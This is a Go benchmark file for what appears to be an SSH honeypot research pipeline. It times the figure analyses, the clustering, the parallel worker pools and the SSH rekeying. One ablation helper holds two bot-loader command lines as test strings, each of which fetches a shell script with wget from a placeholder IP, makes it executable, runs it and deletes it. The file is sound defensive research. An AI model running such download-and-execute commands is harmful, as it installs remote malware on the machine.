// Benchmark harness: one benchmark per table and figure of the paper's
// evaluation (see DESIGN.md section 4 for the experiment index), plus
// ablation benches for the design choices called out in DESIGN.md
// section 5. Each figure bench regenerates its experiment over a shared,
// deterministically simulated dataset.
package honeynet

import (
	"bytes"
	"fmt"
	"io"
	"math/rand"
	"net"
	"regexp"
	"sync"
	"testing"
	"time"

	"honeynet/internal/analysis"
	"honeynet/internal/asdb"
	"honeynet/internal/botnet"
	"honeynet/internal/classify"
	"honeynet/internal/cluster"
	"honeynet/internal/core"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
	"honeynet/internal/sshwire"
	"honeynet/internal/textdist"
)

var (
	benchOnce  sync.Once
	benchWorld *analysis.World
)

// benchPipeline builds the shared benchmark dataset: the full 33-month
// window at scale 1:10000 (~55k sessions). The returned world is pinned
// to Workers=1 so the per-figure benchmarks measure the serial baseline;
// the *Parallel benchmarks below opt into multicore via withWorkers.
func benchPipeline(b *testing.B) *analysis.World {
	b.Helper()
	benchOnce.Do(func() {
		p, err := core.Simulate(simulate.Config{Scale: 10000, Seed: 42})
		if err != nil {
			panic(err)
		}
		benchWorld = p.World
		benchWorld.Workers = 1
	})
	return benchWorld
}

// withWorkers returns a new world over the same dataset with a
// different worker budget (the dataset and databases stay shared —
// analyzer output is identical for any value). Built field by field
// rather than by struct copy: World carries its matrix-memo lock, and
// each copy deliberately starts with a cold memo so parallel benchmarks
// measure real fills.
func withWorkers(w *analysis.World, n int) *analysis.World {
	return &analysis.World{
		Records:    w.Records,
		Registry:   w.Registry,
		AbuseDB:    w.AbuseDB,
		Classifier: w.Classifier,
		Workers:    n,
		Tracer:     w.Tracer,
	}
}

// ---------- Dataset generation ----------

// BenchmarkSimulateOneMonth measures raw trace-generation throughput:
// one simulated month at scale 1:5000.
func BenchmarkSimulateOneMonth(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := simulate.Run(simulate.Config{
			Scale: 5000,
			Seed:  int64(i),
			End:   botnet.WindowStart.AddDate(0, 1, 0),
		})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(res.Sessions), "sessions/op")
	}
}

// ---------- Section 3.3 ----------

func BenchmarkDatasetStats(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Stats(w).Total == 0 {
			b.Fatal("empty stats")
		}
	}
}

// ---------- Figures 1-4, 16, Table 1 (command analyses) ----------

func BenchmarkFig01StateSplit(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig1(w)) == 0 {
			b.Fatal("no rows")
		}
	}
}

func BenchmarkFig02TopScouts(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig2(w).Months) == 0 {
			b.Fatal("no months")
		}
	}
}

func BenchmarkFig03aFileTouch(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig3a(w).Months) == 0 {
			b.Fatal("no months")
		}
	}
}

func BenchmarkFig03bFileExec(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig3b(w).Months) == 0 {
			b.Fatal("no months")
		}
	}
}

func BenchmarkFig04FileExists(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f4 := analysis.Fig4(w)
		if f4.ExistsTotal()+f4.MissingTotal() == 0 {
			b.Fatal("no exec sessions")
		}
	}
}

func BenchmarkFig16UniqueCommands(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig16(w)) == 0 {
			b.Fatal("no rows")
		}
	}
}

func BenchmarkTable1Coverage(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Table1(w).Total == 0 {
			b.Fatal("no sessions")
		}
	}
}

// ---------- Figures 5, 6, 14 (clustering) ----------

func BenchmarkFig05DLDMatrix(b *testing.B) {
	w := benchPipeline(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := analysis.RunClustering(w, analysis.ClusterConfig{K: 30, SampleSize: 400, Seed: 1, Workers: 1})
		if err != nil {
			b.Fatal(err)
		}
		if res.Fig5Table(10) == nil {
			b.Fatal("no table")
		}
	}
}

func BenchmarkFig06ClusterTimeline(b *testing.B) {
	w := benchPipeline(b)
	res, err := analysis.RunClustering(w, analysis.ClusterConfig{K: 30, SampleSize: 400, Seed: 1})
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(res.Fig6(5)) == 0 {
			b.Fatal("no months")
		}
	}
}

func BenchmarkFig14CategoryDLD(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig14(w, 8).Categories) == 0 {
			b.Fatal("no categories")
		}
	}
}

// ---------- Figures 7-9, 17 and section 7 (storage analyses) ----------

func BenchmarkFig07Sankey(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Fig7(w).Total == 0 {
			b.Fatal("no flows")
		}
	}
}

func BenchmarkFig08aASAge(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows := analysis.Fig8(w)
		if analysis.Fig8Sum(rows).Sessions == 0 {
			b.Fatal("no sessions")
		}
	}
}

// BenchmarkFig08bASSize shares the Fig8 analyzer (both panels derive
// from one pass); kept separate so every figure has a named bench.
func BenchmarkFig08bASSize(b *testing.B) {
	BenchmarkFig08aASAge(b)
}

func BenchmarkFig09IPReuse(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, days := range []int{7, 28, 365, 0} {
			if len(analysis.Fig9(w, days)) == 0 {
				b.Fatal("no quarters")
			}
		}
	}
}

func BenchmarkFig17StorageASTypes(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig17(w)) == 0 {
			b.Fatal("no rows")
		}
	}
}

func BenchmarkStorageIPStats(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Storage(w).DownloadSessions == 0 {
			b.Fatal("no downloads")
		}
	}
}

// ---------- Figures 10-13, section 9, Appendix C ----------

func BenchmarkFig10Passwords(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig10(w, 5).Top) == 0 {
			b.Fatal("no passwords")
		}
	}
}

func BenchmarkFig11CowrieDefaults(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		analysis.Fig11(w)
	}
}

func BenchmarkFig12Mdrfckr(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig12(w)) == 0 {
			b.Fatal("no days")
		}
	}
}

func BenchmarkFig13Variant(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cs := analysis.Mdrfckr(w, botnet.MdrfckrKeyHash())
		if cs.Fig13Table() == nil {
			b.Fatal("no table")
		}
	}
}

func BenchmarkMdrfckrCaseStudy(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Mdrfckr(w, botnet.MdrfckrKeyHash()).Sessions == 0 {
			b.Fatal("no sessions")
		}
	}
}

func BenchmarkAppCCurlProxy(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.CurlProxy(w).Sessions == 0 {
			b.Fatal("no sessions")
		}
	}
}

// ---------- End to end ----------

func BenchmarkEndToEndPipeline(b *testing.B) {
	for i := 0; i < b.N; i++ {
		p, err := core.Simulate(simulate.Config{Scale: 50000, Seed: int64(i)})
		if err != nil {
			b.Fatal(err)
		}
		if err := p.RunAll(io.Discard, analysis.ClusterConfig{K: 10, SampleSize: 100, Seed: 1}); err != nil {
			b.Fatal(err)
		}
	}
}

// ---------- Ablations (DESIGN.md section 5) ----------

// benchSessionPair returns two obfuscated variants of the same loader
// behavior — the motivating case for token-level distance.
func benchSessionPair() (string, string) {
	return "cd /tmp; wget http://203.0.113.7/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh",
		"cd /var/run; wget http://198.51.100.9/.x1z.sh; chmod 777 .x1z.sh; sh .x1z.sh; rm -rf .x1z.sh"
}

func BenchmarkAblationTokenDLD(b *testing.B) {
	x, y := benchSessionPair()
	tx, ty := textdist.Tokenize(x), textdist.Tokenize(y)
	s := textdist.NewScratch()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Damerau(tx, ty)
	}
}

func BenchmarkAblationCharDLD(b *testing.B) {
	x, y := benchSessionPair()
	s := textdist.NewScratch()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.CharDamerau(x, y)
	}
}

func BenchmarkAblationFullVsBandedDLD(b *testing.B) {
	x, _ := benchSessionPair()
	tx := textdist.Tokenize(x)
	ty := textdist.Tokenize("uname -a")
	s := textdist.NewScratch()
	b.Run("full", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			s.Damerau(tx, ty)
		}
	})
	b.Run("banded", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			s.DamerauBanded(tx, ty, 3)
		}
	})
}

func BenchmarkAblationKMedoidsSeeding(b *testing.B) {
	rng := rand.New(rand.NewSource(9))
	m := cluster.Fill(200, func(i, j int) float64 { return rng.Float64() })
	b.Run("farthest-point", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := cluster.KMedoids(m, 12, cluster.Config{Seed: int64(i)}); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("random", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := cluster.KMedoids(m, 12, cluster.Config{Seed: int64(i), RandomInit: true}); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func BenchmarkAblationClassifierPrefilter(b *testing.B) {
	cls := classify.New()
	// Worst-case text: no rule matches, so every rule is tried. The
	// automaton refutes most of them without running a regex.
	text := "ps aux | sort | head; ls -la /var/log; cat /etc/os-release"
	b.Run("classify", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			cls.ClassifyStats(text, nil)
		}
	})
	b.Run("all-rules-regex", func(b *testing.B) {
		var res []*regexp.Regexp
		for _, r := range cls.Rules() {
			for _, expr := range r.Require {
				res = append(res, regexp.MustCompile(expr))
			}
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			for _, re := range res {
				re.MatchString(text)
			}
		}
	})
}

func BenchmarkAblationStorageJSONLVsMemory(b *testing.B) {
	w := benchPipeline(b)
	recs := w.Records
	if len(recs) > 5000 {
		recs = recs[:5000]
	}
	b.Run("jsonl-roundtrip", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			var buf bytes.Buffer
			wr := session.NewWriter(&buf)
			for _, r := range recs {
				if err := wr.Write(r); err != nil {
					b.Fatal(err)
				}
			}
			if err := wr.Flush(); err != nil {
				b.Fatal(err)
			}
			got, err := session.ReadAll(&buf)
			if err != nil || len(got) != len(recs) {
				b.Fatalf("round trip: %d, %v", len(got), err)
			}
		}
	})
	b.Run("in-memory-scan", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			n := 0
			for _, r := range recs {
				if r.Kind() == session.CommandExec {
					n++
				}
			}
			if n == 0 {
				b.Fatal("no sessions")
			}
		}
	})
}

// BenchmarkEventCorrelation measures the section 10 analysis.
func BenchmarkEventCorrelation(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.EventCorrelation(w)) == 0 {
			b.Fatal("no rows")
		}
	}
}

// BenchmarkKSelection measures the elbow/silhouette sweep with which the
// paper selects k=90.
func BenchmarkKSelection(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sel, err := analysis.SelectK(w, []int{5, 10, 20}, 150, 1, analysis.ClusterConfig{SampleSize: 400, Seed: 1, Workers: w.Workers})
		if err != nil {
			b.Fatal(err)
		}
		if len(sel.Points) == 0 {
			b.Fatal("no points")
		}
	}
}

// ---------- Parallel engine: serial vs multicore ----------

// benchWorkerCounts are the pool sizes the parallel benchmarks compare;
// w1 is the serial reference the speedup factors in EXPERIMENTS.md are
// measured against.
var benchWorkerCounts = []int{1, 2, 8}

func BenchmarkFig05DLDMatrixParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				// Fresh world per iteration: RunClustering memoizes its
				// sample+matrix on the world, which would otherwise turn
				// every iteration after the first into a memo hit.
				ww := withWorkers(w, workers)
				cfg := analysis.ClusterConfig{K: 30, SampleSize: 400, Seed: 1, Workers: workers}
				res, err := analysis.RunClustering(ww, cfg)
				if err != nil {
					b.Fatal(err)
				}
				if res.Fig5Table(10) == nil {
					b.Fatal("no table")
				}
			}
		})
	}
}

func BenchmarkKSelectionParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			ww := withWorkers(w, workers)
			for i := 0; i < b.N; i++ {
				sel, err := analysis.SelectK(ww, []int{5, 10, 20}, 150, 1, analysis.ClusterConfig{SampleSize: 400, Seed: 1, Workers: workers})
				if err != nil {
					b.Fatal(err)
				}
				if len(sel.Points) == 0 {
					b.Fatal("no points")
				}
			}
		})
	}
}

func BenchmarkTable1CoverageParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				// Fresh classifier per iteration: the memo would otherwise
				// absorb all work after the first pass and hide the
				// classification cost being sharded.
				ww := withWorkers(w, workers)
				ww.Classifier = classify.New()
				if analysis.Table1(ww).Total == 0 {
					b.Fatal("no sessions")
				}
			}
		})
	}
}

func BenchmarkDatasetStatsParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			ww := withWorkers(w, workers)
			for i := 0; i < b.N; i++ {
				if analysis.Stats(ww).Total == 0 {
					b.Fatal("empty stats")
				}
			}
		})
	}
}

// benchSink keeps the kernel comparison loops from being optimized out.
var benchSink float64

// BenchmarkDLDMatrixBounded compares three serial fills of the full
// pairwise matrix over the clustering sample: the unbounded full DP
// (NormalizedIDsFull, the reference), the per-pair hybrid bit-parallel
// kernel (NormalizedIDs), and the fill the clustering runs
// (textdist.Pairwise on one worker, interning included). All three
// produce bit-identical distances; unbounded/bounded is the kernel
// speedup in BENCH_4.json.
func BenchmarkDLDMatrixBounded(b *testing.B) {
	w := benchPipeline(b)
	smp, err := w.DLDSample(analysis.ClusterConfig{SampleSize: 2000, Seed: 42, Workers: 1})
	if err != nil {
		b.Fatal(err)
	}
	in := textdist.NewInterner()
	ids := make([][]int32, len(smp.Tokens))
	for i, tok := range smp.Tokens {
		ids[i] = in.Intern(tok)
	}
	pairs := float64(len(ids)) * float64(len(ids)-1) / 2
	for _, v := range []struct {
		name string
		dist func(s *textdist.Scratch, a, b []int32) float64
	}{
		{"unbounded", (*textdist.Scratch).NormalizedIDsFull},
		{"bounded", (*textdist.Scratch).NormalizedIDs},
	} {
		b.Run(v.name, func(b *testing.B) {
			s := textdist.NewScratch()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				sum := 0.0
				for x := range ids {
					for y := x + 1; y < len(ids); y++ {
						sum += v.dist(s, ids[x], ids[y])
					}
				}
				benchSink = sum
			}
			b.ReportMetric(pairs, "pairs/op")
		})
	}
	b.Run("packed", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			sum := 0.0
			textdist.Pairwise(smp.Tokens, 1, func(_, _ int, d float64) { sum += d })
			benchSink = sum
		}
		b.ReportMetric(pairs, "pairs/op")
	})
}

// BenchmarkRunAllParallel measures the full -fig all pipeline under the
// dependency-aware figure scheduler at several pool sizes. Output goes
// to io.Discard; correctness (byte-identical tables for every worker
// count) is pinned by the determinism tests, so this bench is purely
// about wall time.
func BenchmarkRunAllParallel(b *testing.B) {
	w := benchPipeline(b)
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				// Fresh classifier and world per iteration so the memos
				// (classification, shared DLD sample) do not absorb the
				// work being measured.
				ww := withWorkers(w, workers)
				ww.Classifier = classify.New()
				p := &core.Pipeline{World: ww}
				ccfg := analysis.ClusterConfig{K: 30, SampleSize: 400, Seed: 1, Workers: workers}
				if err := p.RunAll(io.Discard, ccfg); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkSimulateOneMonthParallel(b *testing.B) {
	for _, workers := range benchWorkerCounts {
		b.Run(fmt.Sprintf("w%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				res, err := simulate.Run(simulate.Config{
					Scale:   5000,
					Seed:    int64(i),
					End:     botnet.WindowStart.AddDate(0, 1, 0),
					Workers: workers,
				})
				if err != nil {
					b.Fatal(err)
				}
				b.ReportMetric(float64(res.Sessions), "sessions/op")
			}
		})
	}
}

// BenchmarkRekey measures a full key re-exchange over loopback TCP.
func BenchmarkRekey(b *testing.B) {
	hk, _ := sshwire.GenerateHostKey()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	defer ln.Close()
	srvCh := make(chan *sshwire.Conn, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		sc, err := sshwire.ServerHandshake(c, &sshwire.Config{HostKey: hk})
		if err != nil {
			return
		}
		srvCh <- sc
		for {
			if _, err := sc.ReadPacket(); err != nil {
				return
			}
		}
	}()
	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		b.Fatal(err)
	}
	cli, err := sshwire.ClientHandshake(nc, nil)
	if err != nil {
		b.Fatal(err)
	}
	srv := <-srvCh
	defer cli.Close()
	defer srv.Close()
	go func() {
		for {
			if _, err := cli.ReadPacket(); err != nil {
				return
			}
		}
	}()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := cli.RequestRekey(); err != nil {
			b.Fatal(err)
		}
		for cli.Rekeys() < i+1 {
			time.Sleep(100 * time.Microsecond)
		}
	}
}

// BenchmarkFigAllFromStore is the cold-store end-to-end figure run:
// open a sealed month-partitioned store from disk, decode every
// segment, and render the full figure set — what `hnanalyze -fig all
// -sample 5000 -store DIR` costs after the store's write path has done
// its job. The store is built once; every iteration pays the full
// open+decode+analyze path.
func BenchmarkFigAllFromStore(b *testing.B) {
	w := benchPipeline(b)
	dir := b.TempDir()
	if err := persistStore(dir, w.Records); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		p, err := Open(dir)
		if err != nil {
			b.Fatal(err)
		}
		// Same convention as hnanalyze -store: rebuild the AS registry
		// from the simulation seed so attribution figures run.
		p.World.Registry = asdb.NewRegistry(43, 2000)
		ccfg := ClusterConfig{K: 90, SampleSize: 5000, Seed: 1}
		if err := p.RunAll(io.Discard, ccfg); err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(len(p.World.Records)), "sessions/op")
	}
}
